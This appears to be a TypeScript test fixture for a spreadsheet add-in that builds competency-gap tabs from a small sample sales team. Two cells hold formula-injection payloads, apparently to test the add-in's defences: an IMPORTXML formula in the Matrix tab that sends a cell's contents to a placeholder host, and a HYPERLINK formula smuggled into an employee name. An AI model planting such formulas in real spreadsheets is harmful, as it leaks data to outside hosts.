import { type Host, type HostOptions, openHost } from '../../local/host.ts';
import { workbookOfTables } from '../../local/start/workbook-of-tables.ts';
import { writeGapTabs as writeAllGapTabs } from '../../local/write-gap-tabs.ts';
import type { PlainCell, TableData } from '../../src/core/tables/table-data.ts';

type Rows = readonly (readonly PlainCell[])[];

/** A company that fits on a screen: two levels, three competencies, people in every state. */
export const TABLES: Readonly<Record<string, Rows>> = {
  Levels: [
    ['Job family', 'Track', 'Level', 'Title', 'Order'],
    ['Sales', 'IC', 'S1', 'Seller', 1],
    ['Sales', 'IC', 'S2', 'Senior seller', 2],
  ],
  Competencies: [
    ['Job family', 'Competency', 'Type'],
    ['Sales', 'Closing', 'Functional'],
    ['Sales', 'Ownership', 'Core'],
    ['Sales', 'Listening', 'Core'],
  ],
  Matrix: [
    ['Job family', 'Competency', 'S1', 'S2'],
    ['Sales', 'Closing', 'Closes deals with help.', 'Closes deals alone.'],
    ['Sales', 'Ownership', 'Reports when a date will move.', 'Moves the date back and says how.'],
    ['Sales', 'Listening', '=IMPORTXML("http://x/"&A1)', 'Writes down what the customer asked for.'],
  ],
  Criteria: [
    ['ID', 'Job family', 'From', 'To', 'Criterion', 'Value'],
    ['A', '', '', '', 'Average rating', 3.5],
    ['L', '', '', '', 'Lowest rating', 3],
  ],
  Cycles: [
    ['Cycle', 'Start', 'End'],
    ['2026 Q2', '2026-04-01', '2026-06-30'],
    ['2026 Q3', '2026-07-01', '2026-09-30'],
  ],
  People: [
    ['Employee ID', 'Name', 'Job family', 'Level', 'Left on'],
    ['E1', 'Ana Silva', 'Sales', 'S1', ''],
    ['E2', '=HYPERLINK("http://x","Ben")', 'Sales', 'S1', ''],
    ['00123', "Siân O'Neill", 'Sales', 'S1', ''],
    ['E4', 'Dana Wu', 'Sales', 'S2', ''],
    ['E5', 'Gone Before', 'Sales', 'S1', '2026-05-01'],
  ],
  Ratings: [
    ['Cycle', 'Employee ID', 'Rater', 'Closing', 'Ownership', 'Listening'],
    ['2026 Q3', 'E1', '', 4, 2, 5],
    ['2026 Q3', 'E2', '', 4, 4, 4],
    ['2026 Q3', '00123', '', 3, 3, ''],
    ['2026 Q3', 'E4', '', 5, 5, 5],
  ],
};

/** Opens the built add-in on the small company; tabs given here replace those of the same name. */
export function openCompany(tabs: Readonly<Record<string, Rows>> = {}, options: Partial<HostOptions> = {}): Host {
  const tables = Object.entries({ ...TABLES, ...tabs }).map(
    ([tab, rows]): TableData => ({ kind: tab.split(' – ')[0] ?? tab, tab, rows }),
  );
  return openHost({ dist: 'dist', workbook: workbookOfTables(tables), ...options });
}

/** The id of a tab by its name. */
export function sheetId(host: Host, tab: string): string {
  const id = host.model.getters.getSheetIds().find((each) => host.model.getters.getSheetName(each) === tab);
  if (!id) throw new Error(`There is no tab ${tab}: ${tabNames(host).join(', ')}`);
  return id;
}

export function tabNames(host: Host): readonly string[] {
  return host.model.getters.getSheetIds().map((id) => host.model.getters.getSheetName(id));
}

/** What the cells of a tab show, row by row. */
export function shown(host: Host, tab: string): readonly (readonly string[])[] {
  const id = sheetId(host, tab);
  const { getters } = host.model;
  return Array.from({ length: getters.getNumberRows(id) }, (_row, row) =>
    Array.from({ length: getters.getNumberCols(id) }, (_col, col) =>
      String(getters.getEvaluatedCell({ sheetId: id, col, row }).formattedValue),
    ),
  );
}

/** The row of a tab that begins with a text. */
export function rowOf(host: Host, tab: string, first: string): readonly string[] {
  return shown(host, tab).find((row) => row[0] === first) ?? [];
}

/** Types into a cell, as a person does. */
export function type(host: Host, tab: string, cell: string, content: string): void {
  const [, letters = '', digits = ''] = /^([A-Z])(\d+)$/.exec(cell) ?? [];
  const col = letters.charCodeAt(0) - 65;
  host.model.dispatch('UPDATE_CELL', { sheetId: sheetId(host, tab), col, row: Number(digits) - 1, content });
}

/** Renames a tab as a person does. */
export function rename(host: Host, tab: string, name: string): void {
  host.model.dispatch('RENAME_SHEET', { sheetId: sheetId(host, tab), oldName: tab, newName: name });
}

/** Writes all gap tabs, and gives what is said in the end. */
export function writeGapTabs(host: Host): string {
  const reply = writeAllGapTabs(host);
  return reply.ok ? reply.value : reply.message;
}
